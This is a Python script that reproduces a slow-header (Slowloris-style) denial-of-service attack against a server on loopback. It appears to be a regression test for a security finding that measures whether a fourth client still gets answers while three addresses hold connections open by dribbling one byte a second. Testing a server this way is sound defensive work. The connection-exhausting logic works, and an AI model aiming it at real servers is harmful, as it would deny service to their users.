#!/usr/bin/env python3
"""The three-address slow-header attack (issue 29, finding 9), on loopback.

Usage: slow_heads.py PORT SECONDS PER_ADDR [PATH]

From 127.0.0.2, 127.0.0.3 and 127.0.0.4, PER_ADDR connections each send a
request head a byte a second and open a new connection as soon as one is
closed (as an attacker would, to hold every slot). Meanwhile a fourth
address, 127.0.0.1, asks GET PATH (default /api/variants) on a new
connection every 0.25 s, each with a 10 s deadline. After SECONDS, prints
one JSON line: the fourth address's requests, how many answered 200, how
many failed or timed out, its latencies (ms: median, p99, max) and the
attackers' connections opened. Bounded: every socket has a deadline, the
run ends after SECONDS + 12 s at the latest.
"""
import asyncio
import json
import sys
import time

PORT, SECONDS, PER_ADDR = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
PATH = sys.argv[4] if len(sys.argv) > 4 else "/api/variants"
ATTACKERS = ["127.0.0.2", "127.0.0.3", "127.0.0.4"]
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 200 + b"\r\n\r\n"
opened = 0


async def slow_client(addr, stop):
    """One attacker slot: a byte a second; a new connection when cut."""
    global opened
    while time.monotonic() < stop:
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", PORT, local_addr=(addr, 0)), 2)
        except Exception:
            await asyncio.sleep(0.05)
            continue
        opened += 1
        try:
            for i in range(len(HEAD)):
                if time.monotonic() >= stop:
                    break
                w.write(HEAD[i:i + 1])
                await w.drain()
                # a cut connection reads as EOF at once
                try:
                    data = await asyncio.wait_for(r.read(1), 1.0)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    pass
        except Exception:
            pass
        finally:
            w.close()


async def one_request():
    """The fourth address's GET: (ok, ms)."""
    t0 = time.monotonic()
    try:
        r, w = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", PORT, local_addr=("127.0.0.1", 0)), 10)
        w.write(f"GET {PATH} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        await w.drain()
        line = await asyncio.wait_for(r.readline(), max(0.1, 10 - (time.monotonic() - t0)))
        w.close()
        return line.startswith(b"HTTP/1.1 200"), 1000 * (time.monotonic() - t0)
    except Exception:
        return False, 1000 * (time.monotonic() - t0)


async def main():
    stop = time.monotonic() + SECONDS
    tasks = [asyncio.create_task(slow_client(a, stop)) for a in ATTACKERS for _ in range(PER_ADDR)]
    await asyncio.sleep(min(3.0, SECONDS / 4))  # the attack takes every slot first
    probes = []
    while time.monotonic() < stop - 0.5:
        probes.append(asyncio.create_task(one_request()))
        await asyncio.sleep(0.25)
    results = await asyncio.gather(*probes)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    ms = sorted(m for _, m in results)
    ok = sum(1 for good, _ in results if good)

    def pct(p):
        return round(ms[min(len(ms) - 1, int(p * len(ms)))], 1) if ms else None

    print(json.dumps({"requests": len(results), "ok": ok, "failed": len(results) - ok,
                      "median_ms": pct(0.5), "p99_ms": pct(0.99), "max_ms": round(ms[-1], 1) if ms else None,
                      "attacker_connections": opened}))


asyncio.run(asyncio.wait_for(main(), SECONDS + 12))
